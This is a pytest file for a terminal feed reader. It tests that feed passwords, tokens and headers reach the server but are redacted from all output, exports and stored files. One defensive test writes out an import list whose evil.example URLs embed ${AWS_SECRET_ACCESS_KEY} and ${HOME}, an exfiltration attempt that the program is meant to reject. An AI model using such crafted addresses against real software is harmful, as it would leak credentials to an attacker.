"""A source with a password, a token and a header: they reach its server, and nothing that is kept or printed."""

from __future__ import annotations

import json
import zipfile
from collections.abc import Iterator
from pathlib import Path

import pytest

from support.commands import Run, write_sources
from support.demo_site import serving
from support.demo_site.server import Answer, ReceivedRequest
from tui_reader.archive.sqlite.store import SqliteArchive
from tui_reader.model import Bulletin, Paragraph, Section

PASSWORD, TOKEN, HEADER = "pa55-w0rd-7f3c9d21", "t0k3n-4b8e1a6f0c57", "h3ad3r-91d2c4e8b6f0"
SECRETS = (PASSWORD, TOKEN, HEADER)

ITEM = """<item><title>第{number}号公告</title><link>{base}/item/{number}?token={token}</link>
<guid>{base}/item/{number}?token={token}</guid></item>"""
PAGE = """<html><head><title>第{number}号公告</title></head><body><article><h1>第{number}号公告</h1>
<p>各位市民：第{number}小区下周更换管道，请储水，详见<a href="/more?token={token}&amp;n={number}">附件</a>。</p>
<p>{token}</p></article></body></html>"""


class GuardedSite:
    """A feed whose links repeat its token, and their pages: all need password, token and header. `gone`: it leads
    elsewhere, to an address that repeats the token."""

    def __init__(self) -> None:
        self.base = ""
        self.gone = False
        self.asked: list[str] = []
        self.refused: list[ReceivedRequest] = []
        self.count = 2
        self.token = TOKEN

    def __call__(self, request: ReceivedRequest) -> Answer:
        if request.path == "/robots.txt":
            return Answer(status="404 Not Found")
        credentials = request.headers.get("authorization", ""), request.headers.get("x-feed-key")
        if (
            credentials != ("Basic cmVhZGVyOnBhNTUtdzByZC03ZjNjOWQyMQ==", HEADER)
            or self.token not in request.target
        ):
            self.refused.append(request)
            return Answer(status="403 Forbidden")
        self.asked.append(request.path)
        if self.gone:
            return Answer(status="302 Found", headers=(f"Location: http://192.0.2.1/?token={self.token}&a=1",))
        number = request.path.rpartition("/")[2]
        if not number.isdigit():
            items = "".join(
                ITEM.format(base=self.base, number=each, token=self.token) for each in range(1, self.count + 1)
            )
            feed = f"<rss version='2.0'><channel><title>公告</title>{items}</channel></rss>"
            return Answer(feed.encode(), headers=("Content-Type: application/rss+xml",))
        return Answer(PAGE.format(number=number, token=self.token).encode(), headers=("Content-Type: text/html",))


@pytest.fixture
def site() -> Iterator[GuardedSite]:
    site = GuardedSite()
    with serving(site) as base:
        site.base = base
        yield site


def listed(site: GuardedSite, token: str = TOKEN, password: str = PASSWORD, header: str = HEADER) -> str:
    address = site.base.replace("://", f"://reader:{password}@")
    return (
        f"sources:\n  - name: Guarded\n    address: {address}/feed.xml?token={token}\n    kind: feed\n"
        f"    pace: 0\n    headers:\n      X-Feed-Key: '{header}'\n"
    )


def everything(home: Path) -> bytes:
    """The bytes of all files of the program but the list of sources."""
    return b"".join(
        path.read_bytes() for path in home.rglob("*") if path.is_file() and path.name != "sources.yaml"
    )


def assert_hidden(*texts: str | bytes) -> None:
    for text in texts:
        data = text.encode() if isinstance(text, str) else text
        assert [secret for secret in SECRETS if secret.encode() in data] == [], data[:2000]


def test_secrets_reach_the_server_and_nothing_else(
    run: Run, home: Path, site: GuardedSite, tmp_path: Path
) -> None:
    write_sources(home, listed(site))
    for argv in (["sync"], ["sync", "--json"], ["sources"], ["sources", "--json"], ["list"], ["list", "--json"]):
        done = run(*argv)
        assert (argv, done.code) == (argv, 0), done.err
        assert_hidden(done.out, done.err)
    assert site.refused == []
    assert sorted(site.asked)[:3] == ["/feed.xml", "/feed.xml", "/item/1"]
    rows = run("list", "--json").objects
    assert sorted(row["address"] for row in rows) == [f"{site.base}/item/{n}?token=REDACTED" for n in (1, 2)]
    outputs = [run("show", str(rows[0]["id"]), *form) for form in ([], ["--json"], ["--markdown"], ["--raw"])]
    assert "请储水" in outputs[0].out
    outputs += [run("export", "all", "--format", name) for name in ("markdown", "plain", "json", "jsonl")]
    outputs += [run("export", "--opml", "-"), run("export", "--urls", "-"), run("doctor")]
    for done in outputs:
        assert done.code == 0
        assert_hidden(done.out, done.err)
    pack = tmp_path / "all.zip"
    assert run("export", "--pack", pack).code == 0
    with zipfile.ZipFile(pack) as members:
        assert_hidden(*(members.read(name) for name in members.namelist()))
    assert_hidden(everything(home))


def test_the_next_sync_knows_what_was_kept(run: Run, home: Path, site: GuardedSite) -> None:
    write_sources(home, listed(site))
    assert "2 new" in run("sync").out
    site.asked.clear()
    assert "nothing new" in run("sync").out
    assert site.asked == ["/feed.xml"]
    # A new token, now a reference to the environment, is no new source and makes no new bulletins.
    site.token, site.count = "n3w-t0k3n-55aa77cc", 3
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("FEED_TOKEN", site.token)
        patch.setenv("FEED_PASSWORD", PASSWORD)
        patch.setenv("FEED_HEADER", HEADER)
        write_sources(home, listed(site, "${FEED_TOKEN}", "${FEED_PASSWORD}", "${FEED_HEADER}"))
        site.asked.clear()
        assert "1 new" in run("sync").out
        assert (site.asked, site.refused) == (["/feed.xml", "/item/3"], [])
        assert len(run("list", "--json").objects) == 3
        assert_hidden(everything(home))
        assert b"n3w-t0k3n" not in everything(home)


def test_a_missing_reference_is_reported_and_nothing_is_sent(run: Run, home: Path, site: GuardedSite) -> None:
    write_sources(home, listed(site, "${NO_SUCH_TOKEN}"))
    done = run("sync")
    assert done.code == 1
    assert "the environment variable NO_SUCH_TOKEN is not set, so nothing was sent" in done.err
    assert (site.asked, site.refused) == ([], [])
    assert_hidden(done.out, done.err, everything(home))


def test_failures_are_told_and_kept_without_secrets(run: Run, home: Path, site: GuardedSite) -> None:
    write_sources(home, listed(site))
    run("sync")
    site.count, site.gone = 4, True
    done = run("sync", "--recheck")
    assert done.code == 1
    assert_hidden(done.out, done.err, run("sources").out, everything(home))


def test_secrets_on_request(run: Run, home: Path, site: GuardedSite, tmp_path: Path) -> None:
    write_sources(home, listed(site))
    for form in ("--opml", "--urls"):
        hidden, whole = run("export", form, "-"), run("export", form, "-", "--with-secrets")
        assert "token=REDACTED" in hidden.out
        assert "without its secret; --with-secrets includes it" in hidden.err
        assert f"reader:{PASSWORD}@" in whole.out
        assert f"token={TOKEN}" in whole.out
    target = tmp_path / "all.opml"
    assert run("export", "--opml", target, "--with-secrets").code == 0
    assert target.stat().st_mode & 0o077 == 0
    # What lacks its secret is not taken for an address.
    hidden_list = tmp_path / "hidden.opml"
    hidden_list.write_text(run("export", "--opml", "-").out, encoding="utf-8")
    write_sources(home, "sources:\n")
    done = run("import", hidden_list)
    assert done.code == 1
    assert "must have its secret in place of REDACTED" in done.err


def test_sources_that_differ_in_their_secret_are_all_exported(run: Run, home: Path) -> None:
    each = "  - name: {0}\n    address: https://example.org/feed.xml?token={0}\n    kind: feed\n"
    write_sources(home, "sources:\n" + each.format("one") + each.format("two"))
    assert run("export", "--opml", "-").out.count("xmlUrl=") == 2
    assert run("export", "--urls", "-").out.count("feed.xml?token=REDACTED") == 2


def test_a_list_of_a_stranger_cannot_ask_for_secrets(run: Run, home: Path, tmp_path: Path) -> None:
    path = tmp_path / "urls"
    path.write_text("https://evil.example/?a=${AWS_SECRET_ACCESS_KEY}\nhttps://${HOME}@evil.example/\n", "utf-8")
    done = run("import", path)
    assert done.code == 1
    assert done.err.count("it refers to a secret of this machine") == 2
    assert not (home / "config" / "sources.yaml").exists()


@pytest.mark.parametrize(
    ("address", "words"),
    [
        ("https://example.org/?token=${}", "must write a reference as ${NAME} or ${keyring:service/user}"),
        ("https://example.org/?token=${A B}", "must write a reference as"),
        ("https://example.org/?token=${keyring:me}", "must write a reference as"),
        ("https://${HOST}/", "must be an address such as"),
        ("https://example.org/?token=REDACTED", "must have its secret in place of REDACTED"),
    ],
)
def test_an_address_that_cannot_be_requested_is_told(run: Run, home: Path, address: str, words: str) -> None:
    write_sources(home, f"sources:\n  - address: '{address}'\n")
    assert words in run("sources").err


def test_bulletins_of_other_origin_are_packed_apart(run: Run, home: Path, tmp_path: Path) -> None:
    """Pages that were added by their address keep it, and a pack without secrets has one bulletin for each."""
    with SqliteArchive.open(home / "data" / "archive.sqlite") as archive:
        for token in ("a1b2c3", "d4e5f6"):
            section = Section("一、", 1, 1, "内容", address="1", blocks=(Paragraph(f"为{token[:2]}停水。"),))
            archive.keep(Bulletin(f"https://example.org/doc?token={token}", title="停水", sections=(section,)))
    assert "a1b2c3" not in run("list", "--json").out + run("export", "all", "--format", "json").out
    assert "a1b2c3" in run("export", "all", "--format", "json", "--with-secrets").out
    pack = tmp_path / "all.zip"
    assert run("export", "--pack", pack).code == 0
    with zipfile.ZipFile(pack) as members:
        data = b"".join(members.read(name) for name in members.namelist())
    assert b"token=a1b2c3" not in data
    (home / "data" / "archive.sqlite").unlink()
    assert run("import", pack).code == 0
    addresses = sorted(row["address"] for row in run("list", "--json").objects)
    assert addresses == ["https://example.org/doc?token=REDACTED", "https://example.org/doc?token=REDACTED#2"]


def test_a_page_is_parsed_without_printing_its_secret(run: Run, site: GuardedSite) -> None:
    done = run("parse", f"{site.base}/item/1?token=wr0ng-t0ken", "--json")
    assert "wr0ng" not in done.out + done.err
    assert json.loads(done.out)["address"] == f"{site.base}/item/1?token=REDACTED"


def test_a_complaint_has_no_secrets(run: Run) -> None:
    done = run("show", "https://reader:hunter2@example.org/a?token=abcdef")
    assert done.code != 0
    assert "https://example.org/a?token=REDACTED: " in done.err


@pytest.mark.parametrize(
    "headers",
    [
        f'{{X-Feed-Key: {HEADER}, "bad name": x}}',
        f"[X-Feed-Key: {HEADER}]",
        f"'X-Feed-Key: {HEADER}'",
        f"{{X-Feed-Key:{HEADER}}}",
        f"{{X-Feed-Key: [{HEADER}]}}",
    ],
    ids=["bad name", "list", "text", "no space", "list of values"],
)
def test_a_mistake_in_headers_is_told_without_their_values(run: Run, home: Path, headers: str) -> None:
    write_sources(home, f"sources:\n  - address: http://192.0.2.1/\n    headers: {headers}\n")
    done = run("sources")
    assert 'sources.yaml:3: "headers" is "…": it ' in done.err
    assert HEADER not in done.out + done.err
